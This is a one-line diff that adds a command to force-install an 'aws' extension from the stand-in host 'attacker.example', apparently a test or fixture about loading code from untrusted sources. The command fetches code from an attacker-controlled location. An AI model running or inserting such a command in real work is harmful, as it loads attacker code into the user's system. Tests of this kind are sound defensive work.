@@ -1,0 +1,1 @@
+uFORCE INSTALL aws FROM 'http://attacker.example'
